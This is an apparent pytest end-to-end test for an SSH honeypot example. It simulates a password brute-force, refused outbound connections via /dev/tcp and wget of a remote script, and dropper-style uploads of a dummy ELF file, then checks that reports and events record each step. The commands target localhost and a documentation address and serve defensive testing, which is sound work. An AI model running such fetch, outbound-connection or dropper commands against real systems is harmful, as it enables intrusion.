"""The example honeypot meets an attacker; what is on record and in the report is what was done."""

from __future__ import annotations

import base64
import hashlib
import json
import os
import re
import shutil
import signal
import socket
import subprocess
from collections import Counter
from collections.abc import Iterator
from contextlib import ExitStack
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
import yaml
from tests.e2e.clients import Client, make_key
from tests.e2e.serving import MOORAGE, Server, free_port
from tests.e2e.waiting import until
from tests.parts.s3 import ACCESS, BUCKET, SECRET, s3_server

EXAMPLE = Path(__file__).parents[2] / "examples" / "honeypot" / "config.yaml"
MALWARE = b"\x7fELF" + bytes(range(256)) * 40


class Trap:
    """The example's server, in a directory of its own, and what it has caught."""

    def __init__(self, directory: Path) -> None:
        self.recordings, self.captured = directory / "recordings", directory / "captured"
        self.recordings.mkdir()
        self.captured.mkdir()
        config: dict[str, Any] = yaml.safe_load(EXAMPLE.read_text())
        config["ssh"].pop("listen")
        config["auth"]["honeypot"]["delay"] = "1ms"
        config["audit"]["file"]["directory"] = str(self.recordings)
        config["audit"]["capture"]["directory"] = str(self.captured)
        self.events = directory / "events.jsonl"
        config["audit"]["events"][0]["file"] = str(self.events)
        self.server = Server(directory / "server", config)

    def report(self, *options: str) -> str:
        command = [str(MOORAGE), "audit", "report", str(self.recordings), *options]
        return subprocess.run(command, capture_output=True, text=True, timeout=40, check=True).stdout

    def told(self, name: str = "") -> list[dict[str, Any]]:
        """The events so far, of one kind if it is named."""
        every = [json.loads(line) for line in self.events.read_text().split("\n")[:-1]]
        return [one for one in every if name in {"", one["event"]}]

    def is_quiet(self) -> bool:
        return not list(self.recordings.glob("*.part"))


@pytest.fixture
def trap(bubblewrap: None, tmp_path: Path) -> Iterator[Trap]:
    trap = Trap(tmp_path)
    with trap.server:
        yield trap


def test_an_attacker_is_let_in_recorded_and_held_fast(trap: Trap, tmp_path: Path) -> None:
    until(trap.is_quiet, "the first connections are over", seconds=15)
    before = json.loads(trap.report("--json"))["connections"]
    attacker = Client(trap.server.port, "root", tmp_path, password="123456")

    # Brute force: the first two tries fail, the third gets in, a forbidden pair never does.
    for password in ("root", "toor"):
        assert replace(attacker, password=password).run("id").returncode == 255
    assert attacker.run("id -un").returncode == 0
    assert replace(attacker, password="root").run("id").returncode == 255
    assert replace(attacker, user="admin", password="admin").run("true").returncode == 0

    # A key is noted and refused.
    key = make_key(tmp_path / "id")
    assert replace(attacker, password=None, key=key).run("id").returncode == 255

    # Once in: nothing leads out.
    with socket.create_server(("127.0.0.1", 0)) as outside:
        outside.settimeout(0.5)
        port = outside.getsockname()[1]
        tried = attacker.run(f"exec 3<>/dev/tcp/127.0.0.1/{port} && echo reached")
        assert tried.returncode != 0
        assert b"reached" not in tried.stdout
        assert attacker.run(f"wget -T 2 -t 1 http://127.0.0.1:{port}/x.sh").returncode != 0
        tunnel = attacker.run(flags=["-W", f"127.0.0.1:{port}"], input=b"GET / HTTP/1.0\r\n\r\n")
        assert tunnel.returncode == 255
        with pytest.raises(TimeoutError):
            outside.accept()

    # Files come in by every way that droppers know.
    digest = hashlib.sha256(MALWARE).hexdigest()
    assert attacker.run("cat > /tmp/x; chmod +x /tmp/x", input=MALWARE).returncode == 0
    encoded = base64.b64encode(MALWARE[:300])
    dropped = attacker.run("base64 -d | sha256sum", input=encoded)
    assert dropped.stdout.split()[0].decode() == hashlib.sha256(MALWARE[:300]).hexdigest()
    file = tmp_path / "bot"
    file.write_bytes(MALWARE)
    assert attacker.tool("sftp", "guest", input=f"put {file} /tmp/bot".encode()).returncode == 0
    typed = attacker.run("", flags=["-tt"], input=b"uname -a\nexit\n")
    assert typed.returncode == 0

    until(trap.is_quiet, "all connections are over", seconds=20)
    report = json.loads(trap.report("--json", "--top", "50"))
    top = {title: {row["value"]: row["count"] for row in rows} for title, rows in report["top"].items()}
    assert report["connections"] - before == 13
    assert report["logins"] == 9
    assert report["attempts"] == 13
    assert top["Passwords"] == {"123456": 8, "root": 2, "toor": 1, "admin": 1}
    assert top["User names and passwords"] == {"root:123456": 8, "root:root": 2, "root:toor": 1, "admin:admin": 1}
    assert top["User names"] == {"root": 12, "admin": 1}
    assert top["Sources"]["127.0.0.1"] == report["connections"]
    [offered] = top["Public keys"]
    assert offered.split()[:2] == key.with_suffix(".pub").read_text().split()[:2]
    [client] = [name for name in top["Client programs"] if "OpenSSH" in name]
    assert top["Client programs"][client] == 13
    [hassh] = top["Client fingerprints (HASSH)"]
    assert re.fullmatch("[0-9a-f]{32}", hassh)
    for command in ("id -un", "cat > /tmp/x; chmod +x /tmp/x", "base64 -d | sha256sum", "uname -a", "exit"):
        assert top["Commands"][command] == 1, command
    assert top["Tunnels asked for"] == {f"127.0.0.1:{port}": 1}
    assert {row.split()[0] for row in top["Files"]} == {digest, hashlib.sha256(encoded).hexdigest()}
    assert {path.name for path in trap.captured.iterdir()} == {digest, hashlib.sha256(encoded).hexdigest()}
    assert (trap.captured / digest).read_bytes() == MALWARE
    assert (trap.captured / digest).stat().st_mode & 0o111 == 0

    until(lambda: len(trap.told("connection.closed")) == len(trap.told("connection.opened")), "all is told")
    events = trap.told()
    attempts = [one for one in events if one["event"].startswith("auth.") and "password" in one]
    guesses = {("root", "123456"): 8, ("root", "root"): 2, ("root", "toor"): 1, ("admin", "admin"): 1}
    assert Counter((one["username"], one["password"]) for one in attempts) == Counter(guesses)
    uploads = [one for one in events if one["event"] == "file.seen" and one["operation"] in {"upload", "stdin"}]
    assert {one["sha256"] for one in uploads if one["size"]} == {digest, hashlib.sha256(encoded).hexdigest()}
    identified = [one for one in events if one["event"] == "connection.identified"]
    assert {one["hassh"] for one in identified if "OpenSSH" in one["version"]} == {hassh}
    assert [one["target"] for one in events if one["event"] == "forward.refused"] == [f"127.0.0.1:{port}"]

    text = trap.report()
    assert "13 attempts to log in, 9 logins" in text
    page = trap.report("--html", "-")
    assert "<svg" in page
    assert not re.search(r"""(src|href)=|url\(|https?://[^<]*["']""", page)
    codes = [(record["code"], record["details"]) for record in trap.server.records()]
    assert any(code == "SSH_CLIENT_IDENTIFIED" and details["hassh"] == hassh for code, details in codes)
    [noted] = {details["key"] for code, details in codes if code == "SSH_AUTH_FAILED" and details.get("key")}
    assert noted.startswith("SHA256:")
    assert not any("123456" in json.dumps(details) for _, details in codes)


START, ATTACK, REPORT = re.findall(
    r"^```sh\n(.*?)^```$", EXAMPLE.with_name("README.md").read_text(), re.DOTALL | re.MULTILINE
)


@pytest.mark.parametrize("storage", ["files", "s3"])
def test_what_the_readme_says(bubblewrap: None, tmp_path: Path, storage: str) -> None:
    wrapper = tmp_path / "bin" / "ssh"  # the README's, with nothing of this machine's own settings
    wrapper.parent.mkdir()
    options = f"-F none -o UserKnownHostsFile={tmp_path}/known -o StrictHostKeyChecking=accept-new"
    wrapper.write_text(f'#!/bin/sh\nexec sshpass -p 123456 {shutil.which("ssh")} {options} "$@"\n')
    wrapper.chmod(0o700)
    environment = {
        **os.environ,
        "PATH": f"{wrapper.parent}:{MOORAGE.parent}:{os.environ['PATH']}",
        "TRAP_DIR": str(tmp_path / "trap"),
        "TRAP_PORT": str(free_port()),
    }

    def sh(commands: str, *, fails: bool = False) -> str:
        command = ["sh", "-ec", commands]
        where = EXAMPLE.parents[2]
        done = subprocess.run(
            command, cwd=where, env=environment, capture_output=True, text=True, timeout=60, check=False
        )
        assert fails == (done.returncode != 0), done
        return done.stdout

    with ExitStack() as stack:
        if storage == "s3":
            store = stack.enter_context(s3_server())
            environment |= {"TRAP_BUCKET": BUCKET, "TRAP_S3": store.endpoint, "AWS_REGION": "us-east-1"}
            environment |= {"AWS_ACCESS_KEY_ID": ACCESS, "AWS_SECRET_ACCESS_KEY": SECRET}
        with (tmp_path / "log").open("wb") as log:
            process = subprocess.Popen(
                ["sh", "-ec", START],
                cwd=EXAMPLE.parents[2],
                env=environment,
                stdin=subprocess.DEVNULL,
                stdout=log,
                stderr=log,
                start_new_session=True,
            )
        try:
            until(lambda: "SSH_AVAILABLE" in (tmp_path / "log").read_text() or process.poll() is not None, "it listens")
            assert process.poll() is None, (tmp_path / "log").read_text()
            for _ in range(2):
                sh(ATTACK, fails=True)  # a try that is refused
            assert "Linux" in sh(f"{ATTACK.strip()} || true")
            until(lambda: re.search(r"\b3 attempts to log in, 1 login", sh(REPORT)), "all is on record", seconds=40)
            told = sh(REPORT)
            assert "123456" in told
            if storage == "s3":
                sh(ATTACK.replace("'uname -a; wget http://192.0.2.1/x.sh'", "'cat > /tmp/bot' < /bin/true"))
                malware = Path("/bin/true").read_bytes()
                name = f"captured/{hashlib.sha256(malware).hexdigest()}"
                until(lambda: store.objects().get(name) == malware, "the file is in the bucket", seconds=40)
                until(lambda: not list((tmp_path / "trap" / "spool").glob("*.captured")), "nothing waits")
                assert "captured" not in sh(REPORT.replace("report", "ls"))
            assert "wget" in told
        finally:
            os.killpg(process.pid, signal.SIGTERM)
            process.wait(30)
